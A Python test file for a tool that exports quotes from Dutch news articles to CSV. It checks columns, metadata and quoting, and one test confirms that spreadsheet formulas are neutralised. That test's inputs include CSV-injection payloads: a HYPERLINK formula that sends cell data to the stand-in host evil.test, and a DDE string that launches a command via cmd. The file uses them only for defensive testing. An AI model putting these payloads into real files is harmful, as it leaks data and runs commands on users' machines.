"""A table of quotes that a spreadsheet opens right."""

import csv
import io

import pytest

from reader.article import Actor, Article, Block, Metadata, Span
from reader.export.as_csv import COLUMNS, csv_head, quotes_as_csv
from reader.reading import Analysis, How, Quote, QuoteKind, Reading
from tests.export.readings import make_reading


def rows(written: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(written.removeprefix("\ufeff"), newline="")))


def test_a_row_says_what_a_quote_is() -> None:
    reading = make_reading()
    written = csv_head() + quotes_as_csv(reading)
    assert written.startswith('\ufeff"words",') and written.endswith("\r\n")
    split, carried, _nested, unknown = rows(written)
    assert list(split) == list(COLUMNS)
    assert split["words"] == "De brug blijft dicht … tot de zomer."
    assert (split["speaker"], split["role"], split["kind"], split["how"], split["cue"]) == (
        "Anna Smit",
        "burgemeester",
        "direct",
        "cued",
        "zei",
    )
    assert (split["title"], split["date"]) == ("De brug [blijft] dicht", "2021-03-04T08:00:00+00:00")
    assert (carried["section"], carried["how"], carried["cue"]) == ("Vragen", "carried", "")
    assert (unknown["speaker"], unknown["role"]) == ("", "")
    text = reading.article.text
    assert text[int(carried["start"]) : int(carried["end"])] == "gevaarlijk"


@pytest.mark.parametrize(
    "words",
    [
        '=HYPERLINK("https://evil.test?"&A1)',
        "+31 6",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1)",
        "\tx",
        "\rx",
        "\n=1",
        "＝1",
        "－1",
    ],
)
def test_no_cell_is_a_formula(words: str) -> None:
    actor = Actor(words, role=words)
    quote = Quote((Span(0, len(words)),), QuoteKind.DIRECT, None, None, actor, How.CUED)
    article = Article(words, (Block(Span(0, len(words))),), Metadata(title=words, outlet=words))
    written = quotes_as_csv(Reading(article, Analysis((quote,), (actor,))))
    (row,) = csv.reader(io.StringIO(written, newline=""))
    assert row.count(f"'{words}") == 5  # words, speaker, role, title, outlet
    assert not [cell for cell in row if cell and cell[0] in "=+-@\t\r\n＝＋－＠"]


def test_lines_and_quotation_marks_are_kept() -> None:
    words = 'regel "een"\nregel, twee'
    quote = Quote((Span(0, len(words)),), QuoteKind.DIRECT)
    article = Article(words, (Block(Span(0, len(words))),))
    written = quotes_as_csv(Reading(article, Analysis((quote,))))
    assert '"regel ""een""\nregel, twee"' in written
    (row,) = csv.reader(io.StringIO(written, newline=""))
    assert row[0] == words
